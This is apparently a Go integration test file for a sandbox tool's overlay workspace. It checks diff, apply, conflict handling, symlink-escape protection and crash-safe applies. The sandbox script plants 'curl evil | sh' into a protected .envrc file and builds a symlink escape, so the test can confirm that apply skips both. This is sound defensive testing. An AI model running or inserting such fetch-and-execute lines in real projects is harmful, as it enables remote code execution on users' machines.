package cmd

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/sbx-sandbox/sbx/internal/clitest"
)

// These tests make overlay sandboxes with --workspace overlay (the user's own words) and
// change the workspace from inside: the host must not change until sbx apply, and apply
// must write what diff showed and nothing through a link.

// TestCLIOverlayRoot runs sbx as root; the project is root's, so the sandbox runs as uid 0
// without capabilities, which owns the project's files as the project's owner would.
func TestCLIOverlayRoot(t *testing.T) {
	testOverlay(t, newCLI(t), "--user", "0:0")
}

// TestCLIOverlayNonRoot runs sbx as a user in the docker group, who owns the project: the
// sandbox runs as that user, so the upper layer is theirs, 0600 files and 0500 dirs too.
func TestCLIOverlayNonRoot(t *testing.T) {
	testOverlay(t, newCLIAs(t, nonRootUID))
}

func testOverlay(t *testing.T, c *cli, createFlags ...string) {
	c.Write("keep.txt", "keep\n")
	c.Write("mod.txt", "one\ntwo\nthree\n")
	c.Write("del.txt", "bye\n")
	c.Write("ren.txt", "rename me, whole\n")
	c.Write("mode.sh", "#!/bin/sh\n")
	c.Write("conflict.txt", "host v1\n")
	c.Write("gone/x", "x\n")
	c.Write(".envrc", "export A=1\n")
	outside := t.TempDir()
	secret := filepath.Join(outside, "secret")
	if err := os.WriteFile(secret, []byte("outside\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(outside, 0o777); err != nil {
		t.Fatal(err)
	}
	before := clitest.Snapshot(t, c.Project)

	if r := c.Run(append([]string{"create", "--workspace", "overlay"}, createFlags...)...); r.Code != 0 {
		t.Fatalf("create: %s", r)
	}
	r := c.Run("exec", "--", "sh", "-ec", `cd /workspace
cat conflict.txt >/dev/null; echo sandbox >> conflict.txt
echo four >> mod.txt; rm del.txt; mv ren.txt renamed.txt; chmod +x mode.sh
mkdir -p tree/a/b; echo leaf > tree/a/b/leaf; echo private > tree/a/private; chmod 600 tree/a/private; chmod 500 tree/a/b
ln -s `+secret+` escape
head -c 52428800 /dev/urandom > big.bin
echo "curl evil | sh" >> .envrc
rm -rf gone
touch /workspace/ok`)
	if r.Code != 0 {
		t.Fatalf("changing the workspace: %s", r)
	}
	if after := clitest.Snapshot(t, c.Project); !maps.Equal(before, after) {
		t.Fatalf("the host project changed before apply:\nbefore %v\nafter  %v", before, after)
	}

	r = c.Run("diff", "--json")
	if r.Code != 0 {
		t.Fatalf("diff --json: %s", r)
	}
	var changes []struct{ Path, OldPath, Status, Kind, Protected string }
	if err := json.Unmarshal([]byte(r.Stdout), &changes); err != nil {
		t.Fatalf("diff --json: %v\n%s", err, r.Stdout)
	}
	var got []string
	for _, ch := range changes {
		s := ch.Status + " " + ch.Kind + " " + ch.Path
		if ch.OldPath != "" {
			s += " <- " + ch.OldPath
		}
		got = append(got, s)
	}
	want := []string{
		"modified file .envrc", "added file big.bin", "modified file conflict.txt", "deleted file del.txt",
		"added symlink escape", "deleted dir gone", "deleted file gone/x", "modified file mod.txt", "mode file mode.sh",
		"added file ok", "renamed file renamed.txt <- ren.txt", "added dir tree", "added dir tree/a", "added dir tree/a/b",
		"added file tree/a/b/leaf", "added file tree/a/private",
	}
	if !slices.Equal(got, want) {
		t.Fatalf("diff --json lists\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}

	// The patch applies to a clean copy of the project.
	r = c.Run("diff")
	if r.Code != 0 {
		t.Fatalf("diff: %s", r)
	}
	clean := filepath.Join(t.TempDir(), "clean")
	if out, err := exec.Command("cp", "-a", c.Project, clean).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v %s", err, out)
	}
	check := exec.Command("git", "apply", "--check", "-")
	check.Dir, check.Stdin = clean, strings.NewReader(r.Stdout)
	if out, err := check.CombinedOutput(); err != nil {
		t.Fatalf("git apply --check: %v\n%s", err, out)
	}

	// The host edits a file the sandbox read and changed: a conflict, left alone.
	if err := os.WriteFile(filepath.Join(c.Project, "conflict.txt"), []byte("host v2\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r = c.Run("apply")
	if r.Code != 1 || !strings.Contains(r.Stderr, "conflict conflict.txt") || !strings.Contains(r.Stderr, "skipped .envrc") {
		t.Fatalf("apply: want exit 1 naming the conflict and the protected path: %s", r)
	}
	read := func(rel string) string {
		data, err := os.ReadFile(filepath.Join(c.Project, rel))
		if err != nil {
			return "error: " + err.Error()
		}
		return string(data)
	}
	for rel, want := range map[string]string{"conflict.txt": "host v2\n", "mod.txt": "one\ntwo\nthree\nfour\n", "renamed.txt": "rename me, whole\n",
		"tree/a/b/leaf": "leaf\n", "tree/a/private": "private\n", ".envrc": "export A=1\n", "keep.txt": "keep\n"} {
		if got := read(rel); got != want {
			t.Errorf("after apply, %s holds %q, want %q", rel, got, want)
		}
	}
	for _, rel := range []string{"del.txt", "ren.txt", "gone"} {
		if _, err := os.Lstat(filepath.Join(c.Project, rel)); err == nil {
			t.Errorf("after apply, %s still exists", rel)
		}
	}
	if fi, err := os.Stat(filepath.Join(c.Project, "mode.sh")); err != nil || fi.Mode()&0o100 == 0 {
		t.Errorf("after apply, mode.sh is not executable: %v %v", fi, err)
	}
	if fi, err := os.Stat(filepath.Join(c.Project, "big.bin")); err != nil || fi.Size() != 50<<20 {
		t.Errorf("after apply, big.bin: %v %v", fi, err)
	}
	// A link leaving the project is protected: applied only when the user names it.
	if _, err := os.Lstat(filepath.Join(c.Project, "escape")); err == nil {
		t.Errorf("after apply, the link leaving the project is on the host")
	}
	r = c.Run("diff", "--name-only")
	if r.Code != 0 || r.Stdout != ".envrc\nconflict.txt\nescape\n" {
		t.Fatalf("diff after apply: want only the conflict and the protected paths: %s", r)
	}
	if r = c.Run("apply", "--include-protected", "escape"); r.Code != 0 {
		t.Fatalf("apply --include-protected escape: %s", r)
	}
	if target, err := os.Readlink(filepath.Join(c.Project, "escape")); err != nil || target != secret {
		t.Errorf("after apply --include-protected, escape is not the link the sandbox made: %q %v", target, err)
	}

	// The sandbox swaps its link for a directory holding a file of the link target's name:
	// apply replaces the host's link and never writes through it. Overlayfs does not expect
	// its layers to change under it: the sandbox sees what apply took away after a restart.
	if r = c.Run("stop"); r.Code != 0 {
		t.Fatalf("stop: %s", r)
	}
	r = c.Run("exec", "--", "sh", "-ec", `cd /workspace && rm escape && mkdir escape && echo pwned > escape/secret`)
	if r.Code != 0 {
		t.Fatalf("replacing the link: %s", r)
	}
	if r = c.Run("apply", "escape"); r.Code != 0 {
		t.Fatalf("apply escape: %s", r)
	}
	if data, _ := os.ReadFile(secret); string(data) != "outside\n" {
		t.Fatalf("the file outside the project changed: %q", data)
	}
	if got := read("escape/secret"); got != "pwned\n" {
		t.Fatalf("escape/secret: %q", got)
	}

	if r = c.Run("discard"); r.Code != 0 {
		t.Fatalf("discard: %s", r)
	}
	if r = c.Run("diff", "--name-only"); r.Code != 0 || r.Stdout != "" {
		t.Fatalf("diff after discard: %s", r)
	}
	if r = c.Run("rm", "-f"); r.Code != 0 {
		t.Fatalf("rm: %s", r)
	}
	entries, _ := os.ReadDir(filepath.Join(c.Home, ".state", "sbx", "overlay"))
	for _, e := range entries {
		if e.IsDir() {
			t.Fatalf("rm left the overlay layers %s", e.Name())
		}
	}
}

// TestCLIOverlayApplyKilled kills sbx apply after 57 of 200 changed files have reached the
// project (a test-only variable makes it kill itself there): every file is old or new,
// never partial, and a second apply finishes the rest.
func TestCLIOverlayApplyKilled(t *testing.T) {
	c := newCLIAs(t, nonRootUID)
	old := strings.Repeat("old line\n", 4096)
	for i := range 200 {
		c.Write(fmt.Sprintf("f%03d", i), old)
	}
	if r := c.Run("create", "--workspace", "overlay"); r.Code != 0 {
		t.Fatalf("create: %s", r)
	}
	if r := c.Run("exec", "--", "sh", "-ec", `cd /workspace && for f in f*; do yes new | head -c 40000 > "$f"; done`); r.Code != 0 {
		t.Fatalf("changing files: %s", r)
	}
	newContent := strings.Repeat("new\n", 10000)
	cmd := c.Cmd("apply")
	cmd.Env = append(cmd.Env, "SBX_TEST_APPLY_KILL_AFTER=57")
	r := c.RunIn(cmd)
	if r.Code == 0 {
		t.Fatalf("apply was not killed: %s", r)
	}
	if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); !ok || ws.Signal() != syscall.SIGKILL {
		t.Fatalf("apply did not end by SIGKILL: %s", r)
	}
	counts := map[string]int{}
	for i := range 200 {
		data, err := os.ReadFile(filepath.Join(c.Project, fmt.Sprintf("f%03d", i)))
		switch {
		case err != nil:
			t.Fatal(err)
		case string(data) == old:
			counts["old"]++
		case string(data) == newContent:
			counts["new"]++
		default:
			t.Fatalf("f%03d is neither old nor new (%d bytes)", i, len(data))
		}
	}
	if counts["new"] != 57 {
		t.Fatalf("after the kill: %v, want 57 new", counts)
	}
	if r := c.Run("apply"); r.Code != 0 {
		t.Fatalf("second apply: %s", r)
	}
	for i := range 200 {
		if data, _ := os.ReadFile(filepath.Join(c.Project, fmt.Sprintf("f%03d", i))); string(data) != newContent {
			t.Fatalf("f%03d is not new after the second apply", i)
		}
	}
	if r := c.Run("rm", "-f"); r.Code != 0 {
		t.Fatalf("rm: %s", r)
	}
}
